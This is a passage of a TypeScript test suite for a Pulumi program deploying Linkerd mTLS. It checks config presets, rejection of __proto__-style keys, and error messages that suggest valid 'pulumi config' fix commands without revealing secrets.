                run.resources.filter((r) => r.type !== "pulumi:pulumi:Stack"),
                [],
            );
        });
    }
});

describe("presets and overrides", () => {
    it("each target's preset fills every key; the stack file overrides it", () => {
        const netcup = resolveConfig({ target: "k3s", cluster: { context: "netcup" } });
        assert.equal(netcup.mtls.enabled, false, "the switch is off by default");
        assert.equal(netcup.linkerd.chartVersion, "2026.8.3");
        assert.equal(netcup.identity.trustAnchor.validityHours, 87600);
        assert.equal(netcup.identity.issuer.mode, "certManager");
        assert.equal(netcup.identity.issuer.certManager.durationHours, 48);
        assert.equal(netcup.identity.issuer.certManager.renewBeforeHours, 25);
        assert.equal(netcup.rotationJob.issuerMinHoursLeft, 24, "derived: an hour after renewal should have happened");
        const k3d = resolveConfig({ target: "k3d", cluster: { context: "k3d-akko" } });
        assert.equal(k3d.identity.issuer.mode, "static");
        assert.equal(k3d.identity.issuer.static.validityHours, 8760);
        assert.equal(k3d.rotationJob.issuerMinHoursLeft, 1440, "derived: linkerd check's 60 days");
        assert.deepEqual(k3d.mtls.namespaces, ["akko"]);
        const overridden = resolveConfig({
            target: "k3s",
            cluster: { context: "netcup" },
            linkerd: { proxy: { resources: { memory: { request: "24Mi" } } } },
        });
        assert.equal(overridden.linkerd.proxy.resources.memory.request, "24Mi");
        assert.equal(overridden.linkerd.proxy.resources.memory.limit, "128Mi", "siblings keep the preset");
    });

    it("single-node targets demand a limit on every container (guards the presets)", () => {
        const k3d = structuredClone(resolveConfig({ target: "k3d", cluster: { context: "x" } })) as any;
        delete k3d.linkerd.controlPlaneResources.destination.cpu.limit;
        const result = configSchema.safeParse(k3d);
        assert.ok(!result.success);
        assert.deepEqual(
            result.error.issues.map((i) => [i.path.join("."), i.message]),
            [
                [
                    "linkerd.controlPlaneResources.destination.cpu.limit",
                    "is required on the single-node target k3d (every container has explicit limits)",
                ],
            ],
        );
        const eks = structuredClone(resolveConfig({ target: "eks", cluster: { context: "x" } })) as any;
        assert.equal(
            eks.linkerd.proxy.resources.cpu.limit,
            undefined,
            "HA leaves the proxy CPU unlimited, as values-ha.yaml",
        );
        assert.ok(configSchema.safeParse(eks).success);
    });

    it("the config object is immutable", () => {
        const config = resolveConfig({ target: "eks", cluster: { context: "x" } });
        assert.ok(Object.isFrozen(config) && Object.isFrozen(config.linkerd.proxy.resources.cpu));
        assert.throws(() => {
            (config.mtls as { enabled: boolean }).enabled = true;
        }, TypeError);
    });

    it("`pulumi config set --path mtls.enabled true` is the switch", async () => {
        const run = await runStackOk("k3d", { "mtls.enabled": true });
        assert.equal(run.outputs.mtlsEnabled.value, true);
    });
});

/** Runs the netcup stack file with raw `pulumi config` entries (key -> stored text), as the CLI leaves them. */
async function runRaw(entries: Record<string, string>, secretKeys?: string[]) {
    const config = { ...readStackConfig("netcup"), ...entries };
    return runProgram({ stack: "netcup", config, secretKeys });
}

describe("keys that are not keys: __proto__, constructor, prototype", () => {
    const cases: [string, Record<string, string>, string][] = [
        [
            "__proto__ inside a section",
            { "akko-mtls:mtls": '{"enabled":true,"__proto__":{"enabled":false}}' },
            "akko-mtls:mtls.__proto__",
        ],
        [
            "constructor deep down",
            { "akko-mtls:linkerd": '{"proxy":{"resources":{"constructor":{"x":1}}}}' },
            "akko-mtls:linkerd.proxy.resources.constructor",
        ],
        [
            "prototype inside a list's object",
            { "akko-mtls:mtls": JSON.stringify({ authorizations: [{ prototype: {} }] }) },
            "akko-mtls:mtls.authorizations[0].prototype",
        ],
        ["__proto__ as a top-level key", { "akko-mtls:__proto__": '{"target":"eks"}' }, "akko-mtls:__proto__"],
    ];
    for (const [why, entries, key] of cases) {
        it(`${why}: refused, naming ${key}`, async () => {
            const run = await runRaw(entries);
            assert.ok(run.error instanceof ConfigError, String(run.error));
            assert.deepEqual(
                run.error.problems.map((p) => p.key),
                [key],
            );
            assert.match(run.error.problems[0].message, /cannot be a config key .*: remove it \(pulumi config rm /);
            assert.deepEqual(
                run.resources.filter((r) => r.type !== "pulumi:pulumi:Stack"),
                [],
            );
        });
    }

    it("the fix names the exact path", () => {
        assert.throws(
            () =>
                resolveConfig(
                    JSON.parse(
                        '{"target":"k3s","cluster":{"context":"x"},"mtls":{"authorizations":[{"__proto__":{}}]}}',
                    ),
                ),
            (error: ConfigError) =>
                error.problems[0].message.endsWith("(pulumi config rm --path 'mtls.authorizations[0].__proto__')"),
        );
        assert.throws(
            () => resolveConfig(JSON.parse('{"target":"k3s","cluster":{"context":"x"},"__proto__":{}}')),
            (error: ConfigError) => error.problems[0].message.endsWith("(pulumi config rm akko-mtls:__proto__)"),
        );
    });

    it("Object.prototype is untouched", () => {
        assert.equal(({} as Record<string, unknown>).enabled, undefined);
        assert.equal(({} as Record<string, unknown>).target, undefined);
    });
});

describe("hints for common mistakes", () => {
    const problemOf = async (entries: Record<string, string>, key: string, secretKeys?: string[]) => {
        const run = await runRaw(entries, secretKeys);
        assert.ok(run.error instanceof ConfigError, String(run.error));
        const problem = run.error.problems.find((p) => p.key === key);
        assert.ok(problem, `${key} not named: ${run.error.message}`);
        return { problem, message: run.error.message };
    };

    it("a key set without --path (`pulumi config set mtls.enabled true`): the exact commands that fix it", async () => {
        const { problem } = await problemOf({ "akko-mtls:mtls.enabled": "true" }, "akko-mtls:mtls.enabled");
        assert.equal(
            problem.message,
            'was set without --path: Pulumi stored one key named "mtls.enabled", which the config does not have. ' +
                "Fix: pulumi config rm akko-mtls:mtls.enabled && pulumi config set --path mtls.enabled true",
        );
        const text = await problemOf(
            { "akko-mtls:observability.grafanaDashboards.folder": "Linkerd mTLS" },
            "akko-mtls:observability.grafanaDashboards.folder",
        );
        assert.match(
            text.problem.message,
            /Fix: pulumi config rm akko-mtls:observability\.grafanaDashboards\.folder && pulumi config set --path observability\.grafanaDashboards\.folder 'Linkerd mTLS'$/,
        );
        // A value the key refuses anyway gets no command that would store it: removal, and what is wrong with it.
        const invalid = await problemOf(
            { "akko-mtls:viz.dashboard.ingress.className": "nginx public" },
            "akko-mtls:viz.dashboard.ingress.className",
        );
        assert.match(
            invalid.problem.message,
            /Fix: pulumi config rm akko-mtls:viz\.dashboard\.ingress\.className, then set a value it takes with pulumi config set --path viz\.dashboard\.ingress\.className <value> \(this one is not: a Kubernetes object name/,
        );
        // A list (or object) given whole: --path would keep its JSON as text, so item by item.
        const list = await problemOf({ "akko-mtls:mtls.namespaces": '["akko","spark"]' }, "akko-mtls:mtls.namespaces");
        assert.match(
            list.problem.message,
            /Fix: pulumi config rm akko-mtls:mtls\.namespaces && pulumi config set --path 'mtls\.namespaces\[0\]' akko && pulumi config set --path 'mtls\.namespaces\[1\]' spark$/,
        );
        // Text that --path would store typed keeps the type the key wants with --type string.
        const label = await problemOf(
            { "akko-mtls:observability.grafanaDashboards.labelValue": "1" },
            "akko-mtls:observability.grafanaDashboards.labelValue",
        );
        assert.match(
            label.problem.message,
            /&& pulumi config set --type string --path observability\.grafanaDashboards\.labelValue 1$/,
        );
    });

    it("a secret set without --path: the fix keeps it secret and never shows it", async () => {
        const { problem, message } = await problemOf(
            { "akko-mtls:observability.runbookUrl": "https://wiki/secret-token-123" },
            "akko-mtls:observability.runbookUrl",
            ["akko-mtls:observability.runbookUrl"],
        );
        assert.match(problem.message, /pulumi config set --secret --path observability\.runbookUrl <value>$/);
        assert.ok(!message.includes("secret-token-123"));
    });

    it("a secret section's wrong type: a hint without the value", async () => {
        const entries = {
            "akko-mtls:observability": JSON.stringify({ runbookUrl: 12345678, prometheusOperator: "true" }),
        };
        const run = await runRaw(entries, ["akko-mtls:observability"]);
        assert.ok(run.error instanceof ConfigError);
        assert.ok(!run.error.message.includes("12345678"), run.error.message);
        const operator = run.error.problems.find((p) => p.key === "akko-mtls:observability.prometheusOperator")!;
        assert.equal(
            operator.message,
            "expected boolean: a secret stored as text; set it typed with pulumi config set --secret --path observability.prometheusOperator <value>",
        );
    });

    it("an unknown key with a dot whose first part is no key: the plain unknown-key message", async () => {
        const { problem } = await problemOf({ "akko-mtls:mtsl.enabled": "true" }, "akko-mtls:mtsl.enabled");
        assert.match(problem.message, /^unknown key; allowed here: target, cluster, mtls/);
    });

    it("a number or boolean stored as text: the --path command that stores it typed", async () => {
        const number = await runStack("netcup", { "identity.issuer.static.validityHours": "8760" });
        assert.ok(number.error instanceof ConfigError);
        const validity = number.error.problems.find((p) => p.key === "akko-mtls:identity.issuer.static.validityHours")!;
        assert.match(
            validity.message,
            /^expected number, got the text "8760": write it without quotes in the stack file, or run pulumi config set --path identity\.issuer\.static\.validityHours 8760 \(with --path, integers and true\/false are stored typed/,
        );
        // No command for a number the key refuses anyway: it would be no fix.
        const negative = await runStack("netcup", { "rotationJob.windowHours": "-1" });
        assert.ok(negative.error instanceof ConfigError);
        assert.equal(
            negative.error.problems[0].message,
            'expected number, got the text "-1": written as a number, -1 is not allowed here either (integer 1–24)',
        );
        const decimal = await runStack("netcup", { "rotationJob.windowHours": "1.5" });
        assert.ok(decimal.error instanceof ConfigError);
        assert.equal(
            decimal.error.problems[0].message,
            "expected number",
            "--path would store 1.5 as text too: no command to offer",
        );
        const zero = await runStack("netcup", { "rotationJob.deadlineMinutes": "050" });
        assert.ok(zero.error instanceof ConfigError);
        assert.match(
            zero.error.problems[0].message,
            /pulumi config set --path rotationJob\.deadlineMinutes 50 /,
            "a leading zero is what made it text",
        );
        const bool = await runStack("netcup", { "mtls.enabled": "true" });
        assert.ok(bool.error instanceof ConfigError);
        assert.match(
            bool.error.problems[0].message,
            /^expected boolean, got the text "true": .*pulumi config set --path mtls\.enabled true \(with --path, true and false are stored typed/,
        );
        // A port is a number or a name; "8080" is no name (a name has a letter): the number was meant.
        const inList = await runStack("netcup", { ...STRICT, "mtls.authorizations": [{ ...TRINO, port: "8080" }] });
        assert.ok(inList.error instanceof ConfigError, String(inList.error));
        assert.match(
            inList.error.problems[0].message,
            /^a port number, or a port name .*, got the text "8080": .*pulumi config set --path 'mtls\.authorizations\[0\]\.port' 8080/,
        );
        const phase = await runStack("netcup", { "identity.trustAnchor.rotationPhase": "1" });
        assert.ok(phase.error instanceof ConfigError);
        assert.match(
            phase.error.problems[0].message,
            /^allowed: 0, 1, 2, 3, got the text "1": .*pulumi config set --path identity\.trustAnchor\.rotationPhase 1/,
        );
        // yes, 1, True: the same hint, naming the boolean meant (issue 19).
        for (const [text, meant] of [
            ["yes", true],
            ["True", true],
            ["1", true],
            ["off", false],
            ["0", false],
        ] as const) {
            const run = await runStack("netcup", { "mtls.enabled": text });
            assert.ok(run.error instanceof ConfigError);
            assert.equal(
                run.error.problems[0].message,
                `expected boolean, got the text "${text}": a boolean is true or false, unquoted: write ${meant} in the stack file, or run ` +
                    `pulumi config set --path mtls.enabled ${meant} (with --path, true and false are stored typed; quotes or --type string store text)`,
            );
        }
        const one = await runStack("netcup", { "mtls.enabled": 1 });
        assert.ok(one.error instanceof ConfigError);
        assert.match(
            one.error.problems[0].message,
            /^expected boolean, got the number 1: a boolean is true or false, .*set --path mtls\.enabled true /,
        );
        const maybe = await runStack("netcup", { "mtls.enabled": "maybe" });
        assert.ok(maybe.error instanceof ConfigError);
        assert.equal(maybe.error.problems[0].message, "expected boolean", "no hint for text that is no boolean");
    });

    it("text where an object or a list is expected: set its keys or items one by one", async () => {
        const object = await runStack("netcup", { "linkerd.proxy.resources": "100m" });
        assert.ok(object.error instanceof ConfigError);
        assert.match(
            object.error.problems[0].message,
            /^expected object, got the text "100m": this key holds the keys cpu, memory; set each one with pulumi config rm --path linkerd\.proxy\.resources && pulumi config set --path linkerd\.proxy\.resources\.cpu\.request <value>/,
        );
        const json = await runStack("netcup", { "mtls.ingress": '{"enabled":true}' });
        assert.ok(json.error instanceof ConfigError);
        assert.match(
            json.error.problems[0].message,
            /^expected object, got JSON as text: .*pulumi config set --path mtls\.ingress\.enabled <value>/,
        );
        const top = await runRaw({ "akko-mtls:mtls": "true" });
        assert.ok(top.error instanceof ConfigError);
        assert.match(
            top.error.problems[0].message,
            /^expected object, got the value true: this key holds the keys enabled, namespaces/,
        );
        const map = await runStack("netcup", { "observability.ruleLabels": "release" });
        assert.ok(map.error instanceof ConfigError);
        assert.match(
            map.error.problems[0].message,
            /^expected record, .*a map; set each one with pulumi config rm --path observability\.ruleLabels && pulumi config set --path 'observability\.ruleLabels\.<key>' <value>/,
        );
        const list = await runStack("netcup", { "mtls.namespaces": '["akko","spark"]' });
        assert.ok(list.error instanceof ConfigError);
        assert.match(
            list.error.problems[0].message,
            /^expected array, .*set each item, pulumi config rm --path mtls\.namespaces && pulumi config set --path 'mtls\.namespaces\[0\]' akko && pulumi config set --path 'mtls\.namespaces\[1\]' spark/,
        );
    });
});

describe("messages that say what is wrong (issue 19)", () => {
    it("a number too large for JSON (1e309) is named as such, not reported as null", async () => {
        const run = await runRaw({ "akko-mtls:rotationJob": '{"windowHours":1e309}' });
        assert.ok(run.error instanceof ConfigError, String(run.error));
        assert.match(
            run.error.message,
            /akko-mtls:rotationJob\.windowHours: expected number: Infinity is no number the config can hold \(got Infinity\)/,
        );
        assert.doesNotMatch(run.error.message, /got null/);
    });

    it("a missing value of a union names what is missing, not 'Invalid input (got nothing)'", async () => {
        const { port: _port, ...portless } = TRINO;
        const run = await runStack("netcup", { ...STRICT, "mtls.authorizations": [portless] });
        assert.ok(run.error instanceof ConfigError, String(run.error));
        assert.match(
            run.error.message,
            /akko-mtls:mtls\.authorizations\[0\]\.port: is required \(integer 1–65535 or string\)/,
        );
        const network = await runStack("netcup", {
            ...STRICT,
            "mtls.authorizations": [{ ...TRINO, clients: undefined, networks: ["kubelet"] }],
        });
        assert.ok(network.error instanceof ConfigError, String(network.error));
        assert.match(network.error.message, /networks\[0\]: expected CIDR \(IPv4 or IPv6\) \(got "kubelet"\)/);
        for (const refused of [run, network]) assert.doesNotMatch(refused.error!.message, /Invalid input/);
    });
});

/**
 * `pulumi config set|rm` as the CLI applies them to a stack's config (config/configPath.ts for
 * `--path`): what a suggested fix does when the operator runs it.
 */
function applyCommand(config: Record<string, string>, words: string[]): Record<string, string> {
    const [verb, ...rest] = words;
    const flags = new Set(rest.filter((w) => w.startsWith("--") && w !== "--"));
    const operands = rest.filter((w, i) => !(w.startsWith("--") && w !== "--") && !(rest[i - 1] === "--type"));
    const args = operands.filter((w) => w !== "--");
    if (verb === "rm" && !flags.has("--path")) {
        const next = { ...config };
        delete next[args[0].includes(":") ? args[0] : `akko-mtls:${args[0]}`];
        return next;
    }
    const path = parsePropertyPath(args[0]);
    const topKey = `akko-mtls:${path[0]}`;
    if (verb === "rm") {
        const root = JSON.parse(config[topKey]);
        let node = root;
        for (const segment of path.slice(1, -1)) node = node[segment];
        if (Array.isArray(node)) node.splice(path[path.length - 1] as number, 1);
        else delete node[path[path.length - 1]];
        return { ...config, [topKey]: JSON.stringify(root) };
    }
    // --type string: the text as given, not coerced to a boolean or a number.
    return configSetPath(config, args[0], args[1], "akko-mtls", {
        type: rest.includes("string") ? "string" : undefined,
    });
}

/**
 * The `pulumi config …` commands a message suggests (chains joined by &&), as shell words; none with a
 * placeholder. A bare word loses the `)` or `,` of the sentence around it.
 */
function suggestedCommands(message: string): string[][][] {
    const chains: string[][][] = [];
    for (const match of message.matchAll(/pulumi config (?:set|rm)\b(?:(?!, or |, then | \(with | \(this ).)*/g)) {
        const chain = match[0].split(" && ").map((command) => {
            const words: string[] = [];
            for (const token of command.matchAll(/'((?:[^']|'\\'')*)'|(\S+)/g))
                words.push(token[1] !== undefined ? token[1].replace(/'\\''/g, "'") : token[2].replace(/[),]+$/, ""));
            return words.slice(2); // after "pulumi config"
        });
        if (!chain.some((words) => words.some((w) => w.includes("<")))) chains.push(chain);
    }
    return chains;
}

describe("a suggested fix is itself valid (issue 17)", () => {
    // Configs whose refusal suggests commands: text for numbers and booleans, lists and objects as text,
    // keys set without --path (valid values and invalid ones), keys that cannot be keys.
    const cases: Record<string, string>[] = [
        { "akko-mtls:identity": '{"issuer":{"static":{"validityHours":"8760"}}}' },
        { "akko-mtls:rotationJob": '{"windowHours":"050"}' },
        { "akko-mtls:rotationJob": '{"windowHours":"-1"}' },
        { "akko-mtls:rotationJob": '{"windowHours":"99"}' },
        { "akko-mtls:identity": '{"trustAnchor":{"rotationPhase":"1"}}' },
        { "akko-mtls:identity": '{"trustAnchor":{"rotationPhase":"7"}}' },
        ...["true", "True", "yes", "1", "off", "0"].map((text) => ({
            "akko-mtls:mtls": JSON.stringify({ enabled: text }),
        })),
        { "akko-mtls:mtls": '{"namespaces":"[\\"akko\\",\\"spark\\"]"}' },
        { "akko-mtls:mtls": '{"namespaces":"[\\"Akko_Data\\"]"}' },
        {
            "akko-mtls:mtls": JSON.stringify({
                namespaces: JSON.stringify(Array.from({ length: 12 }, (_, i) => `ns${i}`)),
            }),
        },
        { "akko-mtls:mtls": '{"namespaces":"akko"}' },
        { "akko-mtls:mtls.enabled": "true" },
        { "akko-mtls:mtls.enabled": "yes" },
        { "akko-mtls:mtls.namespaces": '["akko","spark"]' },
        { "akko-mtls:viz.dashboard.ingress.className": "nginx public" },
        { "akko-mtls:observability.grafanaDashboards.folder": "Linkerd mTLS" },
        { "akko-mtls:observability.grafanaDashboards.labelValue": "1" },
        { "akko-mtls:linkerd.controllerReplicas": "2" },
        { "akko-mtls:linkerd.controllerReplicas": "9" },
        {
            "akko-mtls:mtls": JSON.stringify({
                enabled: true,
                mode: "strict",
                authorizations: [{ ...TRINO, port: "8080" }],
            }),
        },
        {
            "akko-mtls:mtls": JSON.stringify({
                enabled: true,
                mode: "strict",
                authorizations: [{ ...TRINO, port: "99999" }],
            }),
        },
        { "akko-mtls:mtls": '{"enabled":true,"__proto__":{"enabled":false}}' },
    ];

    it("every command a refusal suggests, applied, leaves the key it names valid", () => {
        let applied = 0;
        for (const entries of cases) {
            const config: Record<string, string> = {
                ...readStackConfig("netcup"),
                "akko-mtls:mtls": '{"enabled":false,"namespaces":["akko","spark"]}',
                ...entries,
            };
            const resolve = (c: Record<string, string>) => {
                try {
                    resolveConfig(
                        Object.fromEntries(
                            Object.entries(c).map(([k, v]) => {
                                try {
                                    return [k.slice("akko-mtls:".length), JSON.parse(v)];
                                } catch {
                                    return [k.slice("akko-mtls:".length), v];
                                }
                            }),
                        ),
                    );
                    return [];
                } catch (error) {
                    assert.ok(error instanceof ConfigError, String(error));
                    return error.problems;
                }
            };
            const problems = resolve(config);
            assert.ok(problems.length > 0, `refused: ${JSON.stringify(entries)}`);
            for (const problem of problems) {
                for (const chain of suggestedCommands(problem.message)) {
                    let fixed = config;
                    for (const words of chain) fixed = applyCommand(fixed, words);
                    const still = resolve(fixed).filter(
                        (p) => p.key === problem.key || p.key.startsWith(`${problem.key}[`),
                    );
                    assert.deepEqual(still, [], `${problem.key}: ${chain.map((w) => w.join(" ")).join(" && ")}`);
                    applied++;
                }
            }
        }
        assert.ok(applied >= 18, `${applied} suggestions applied`);
    });
});

describe("a colon typed for a dot: `pulumi config set --path mtls:enabled true` (issue 19)", () => {
    const registered = (run: Awaited<ReturnType<typeof runProgram>>) =>
        run.resources.filter((r) => r.type !== "pulumi:pulumi:Stack");

    it("is refused by the program itself, with the command that stores the key meant, before anything is registered", async () => {
        // What the CLI stores for `pulumi config set --path mtls:enabled true`: key `enabled` of a namespace `mtls`.
        const run = await runProgram({
            stack: "netcup",
            config: { ...readStackConfig("netcup"), "mtls:enabled": "true" },
        });
        assert.ok(run.error instanceof ConfigError, String(run.error));
        assert.deepEqual(
            run.error.problems.map((p) => p.key),
            ["mtls:enabled"],
        );
        assert.match(
            run.error.message,
            /which nothing reads .*Fix: pulumi config rm mtls:enabled && pulumi config set --path mtls\.enabled true$/m,
        );
        assert.deepEqual(registered(run), [], "nothing registered");
    });

    it("an object under such a key: one command per leaf; a secret one: the value is never shown", async () => {
        const config = {
            ...readStackConfig("netcup"),
            "mtls:namespaceOptions": JSON.stringify({ akko: { denyIngress: false } }),
            "viz:dashboard": JSON.stringify({ ingress: { host: "dash-s3cr3t.example.org" } }),
        };
        const run = await runProgram({ stack: "netcup", config, secretKeys: ["viz:dashboard"] });
        assert.ok(run.error instanceof ConfigError, String(run.error));
        assert.match(
            run.error.message,
            /mtls:namespaceOptions: .*pulumi config rm mtls:namespaceOptions && pulumi config set --path mtls\.namespaceOptions\.akko\.denyIngress false$/m,
        );
        assert.match(
            run.error.message,
            /viz:dashboard: .*pulumi config rm viz:dashboard && pulumi config set --secret --path viz\.dashboard <value>$/m,
        );
        assert.doesNotMatch(run.error.message, /s3cr3t/);
    });

    it("other namespaces (a provider's `kubernetes:context`) are left alone", async () => {
        const run = await runProgram({
            stack: "netcup",
            config: { ...readStackConfig("netcup"), "kubernetes:context": "other" },
        });
        assert.equal(run.error, undefined, String(run.error));
    });
});
